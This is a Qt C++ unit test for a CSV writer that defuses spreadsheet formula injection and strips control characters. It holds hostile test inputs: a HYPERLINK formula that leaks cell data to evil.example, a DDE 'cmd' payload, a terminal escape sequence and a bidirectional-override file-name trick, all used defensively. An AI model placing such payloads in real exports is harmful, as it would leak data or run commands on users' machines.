#include "core/util/CsvReader.h"
#include "core/util/CsvWriter.h"

#include <QBuffer>
#include <QTest>

using namespace paydesk;

// CSV cells that come from outside open in a spreadsheet as text, never as a formula, and
// carry no control characters; numbers the code wrote stay numbers.
class TestCsvWriter : public QObject
{
    Q_OBJECT

private:
    static const QString &payload()
    {
        // What the security review found written in clear as a payer id.
        static const QString text =
            QStringLiteral("=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click for your refund\")");
        return text;
    }

    static bool hasControlCharacters(const QString &text)
    {
        for (QChar c : text) {
            if (c.category() == QChar::Other_Control)
                return true;
        }
        return false;
    }

private slots:
    void formulasBecomeText_data()
    {
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("written");
        QTest::newRow("the issue's payer id") << payload() << QLatin1Char('\'') + payload();
        QTest::newRow("plus") << QStringLiteral("+1+1") << QStringLiteral("'+1+1");
        QTest::newRow("minus") << QStringLiteral("-2+3+cmd|' /C calc'!A0") << QStringLiteral("'-2+3+cmd|' /C calc'!A0");
        QTest::newRow("at") << QStringLiteral("@SUM(1,2)") << QStringLiteral("'@SUM(1,2)");
        QTest::newRow("after a tab") << QStringLiteral("\t=1+1") << QStringLiteral("' =1+1");
        QTest::newRow("after a carriage return") << QStringLiteral("\r=1+1") << QStringLiteral("' =1+1");
        QTest::newRow("after spaces") << QStringLiteral("  =1+1") << QStringLiteral("'  =1+1");
        QTest::newRow("after a NUL") << QString::fromUtf16(u"\0=1+1", 5) << QStringLiteral("'=1+1");
        QTest::newRow("full-width equals") << QStringLiteral("＝1+1") << QStringLiteral("'＝1+1");
        QTest::newRow("full-width plus") << QStringLiteral("＋1") << QStringLiteral("'＋1");
        QTest::newRow("plain text") << QStringLiteral("Coffee 咖啡 x2") << QStringLiteral("Coffee 咖啡 x2");
        QTest::newRow("an equals sign inside") << QStringLiteral("a=b") << QStringLiteral("a=b");
        QTest::newRow("empty") << QString() << QString();
    }
    void formulasBecomeText()
    {
        QFETCH(QString, value);
        QFETCH(QString, written);
        QCOMPARE(CsvWriter::inertText(value), written);
    }

    void controlCharactersAreRemoved_data()
    {
        QTest::addColumn<QString>("value");
        QTest::addColumn<QString>("written");
        QTest::newRow("NUL") << QString::fromUtf16(u"oUpF8\0uMu", 9) << QStringLiteral("oUpF8uMu");
        QTest::newRow("escape sequence") << QStringLiteral("\x1b[2J\x1b]0;owned\x07name")
                                         << QStringLiteral("[2J]0;ownedname");
        QTest::newRow("line breaks become spaces")
            << QStringLiteral("line one\r\nline two\u2028three") << QStringLiteral("line one  line two three");
        QTest::newRow("DEL and C1") << QStringLiteral("a\x7f"
                                                      "b\u0085c\u009bd")
                                    << QStringLiteral("abcd");
        QTest::newRow("bidirectional override")
            << QStringLiteral("invoice\u202Efdp.exe") << QStringLiteral("invoicefdp.exe");
        QTest::newRow("isolate") << QStringLiteral("\u2066x\u2069") << QStringLiteral("x");
    }
    void controlCharactersAreRemoved()
    {
        QFETCH(QString, value);
        QFETCH(QString, written);
        QCOMPARE(CsvWriter::inertText(value), written);
    }

    void numbersStayNumbers()
    {
        QVERIFY(CsvWriter::isPlainNumber(u"0"));
        QVERIFY(CsvWriter::isPlainNumber(u"88.00"));
        QVERIFY(CsvWriter::isPlainNumber(u"-12.30"));
        QVERIFY(!CsvWriter::isPlainNumber(u""));
        QVERIFY(!CsvWriter::isPlainNumber(u"-"));
        QVERIFY(!CsvWriter::isPlainNumber(u"1."));
        QVERIFY(!CsvWriter::isPlainNumber(u".5"));
        QVERIFY(!CsvWriter::isPlainNumber(u"-1+1"));
        QVERIFY(!CsvWriter::isPlainNumber(u"1e5"));
        QVERIFY(!CsvWriter::isPlainNumber(u"=1"));

        CsvWriter::Row row;
        row.number(QStringLiteral("-12.30"))
            .number(qint64(-7))
            .number(QStringLiteral("-1+1"))
            .number(QString())
            .text(QStringLiteral("-5"));
        QCOMPARE(row.cells(), (QStringList{QStringLiteral("-12.30"), QStringLiteral("-7"), QStringLiteral("'-1+1"),
                                           QString(), QStringLiteral("'-5")}));
    }

    void rowsAreDefusedByDefault()
    {
        QBuffer out;
        QVERIFY(out.open(QIODevice::ReadWrite));
        const QString nul(QChar(0));
        QVERIFY(CsvWriter::writeRow(
            out, QStringList{payload(), QStringLiteral("a,b") + nul, QStringLiteral("say \"hi\"\n")}));
        CsvWriter::Row row;
        row.text(payload()).number(QStringLiteral("88.00")).text(QStringLiteral("@x\x1b"));
        QVERIFY(CsvWriter::writeRow(out, row));
        QVERIFY(!out.data().contains('\0'));
        QVERIFY(!out.data().contains('\x1b'));
        auto parsed = CsvReader::read(out.data());
        QVERIFY2(parsed.ok(), qPrintable(parsed.error().message()));
        QCOMPARE(parsed->size(), 2);
        QCOMPARE(parsed->at(0).fields,
                 (QStringList{QLatin1Char('\'') + payload(), QStringLiteral("a,b"), QStringLiteral("say \"hi\" ")}));
        QCOMPARE(parsed->at(1).fields,
                 (QStringList{QLatin1Char('\'') + payload(), QStringLiteral("88.00"), QStringLiteral("'@x")}));
        for (const CsvReader::Row &r : std::as_const(*parsed)) {
            for (const QString &field : r.fields)
                QVERIFY(!hasControlCharacters(field));
        }
    }
};

QTEST_GUILESS_MAIN(TestCsvWriter)
#include "tst_csvwriter.moc"
